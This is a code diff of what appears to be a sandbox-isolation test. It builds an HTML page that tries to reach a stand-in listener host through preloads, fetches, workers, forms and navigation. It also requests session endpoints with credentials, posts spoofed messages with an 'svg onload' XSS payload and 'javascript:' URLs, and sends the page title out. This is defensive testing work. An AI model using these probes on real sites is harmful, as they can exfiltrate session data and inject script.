@@ -8,7 +8,7 @@ from typing import Final
 
 _HTML: Final = """<!doctype html>
 <base href="http://{listener}/base/">
-<meta http-equiv="refresh" content="1;url=http://{listener}/refresh">
+<meta http-equiv="refresh" content="3;url=http://{listener}/refresh">
 <link rel="stylesheet" href="http://{listener}/sheet.css"><link rel="preload" as="image" href="http://{listener}/preload">
 <link rel="prefetch" href="http://{listener}/prefetch"><link rel="preconnect" href="http://{listener}/">
 <link rel="dns-prefetch" href="http://{listener}/"><link rel="icon" href="http://{listener}/icon">
@@ -42,8 +42,6 @@ attempt("events", () => {{ new EventSource("http://{listener}/events"); return "
 attempt("request", () => {{ const r = new XMLHttpRequest(); r.open("GET", "http://{listener}/xhr", false); r.send(); return "sent" }});
 attempt("image", () => {{ new Image().src = "http://{listener}/image"; return "made" }});
 attempt("worker", () => {{ new Worker(URL.createObjectURL(new Blob(["fetch('http://{listener}/worker')"]))); return "made" }});
-attempt("form", () => {{ document.getElementById("form").submit(); return "sent" }});
-for (const id of ["link", "top", "blank"]) attempt(id, () => {{ document.getElementById(id).click(); return "clicked" }});
 attempt("eval", () => (0, eval)("1 + 1"));
 const pages = ["http://{listener}/fetch", "/api/session", "/api/canvas/canvases", "http://{listener}/post"];
 Promise.allSettled(pages.map((url) => fetch(url, {{ method: url.endsWith("post") ? "POST" : "GET", mode: "no-cors", credentials: "include" }})))
@@ -54,6 +52,8 @@ Promise.allSettled(pages.map((url) => fetch(url, {{ method: url.endsWith("post")
     parent.postMessage({{ report: got }}, "*");
     // As the page's own messages look: nothing may come of them.
     for (const said of [{{ ready: true }}, {{ id: 1, svg: "<svg onload='owned=1'/>" }}, {{ type: "navigate", url: "javascript:owned=1" }}]) parent.postMessage(said, "*");
+    attempt("form", () => {{ document.getElementById("form").submit(); return "sent" }});
+    for (const id of ["blank", "top", "link"]) attempt(id, () => {{ document.getElementById(id).click(); return "clicked" }});
     setTimeout(() => {{ location.href = "http://{listener}/self?" + document.title; }}, 300);
     setTimeout(() => {{ location.href = "javascript:parent.owned=1"; }}, 100);
   }});
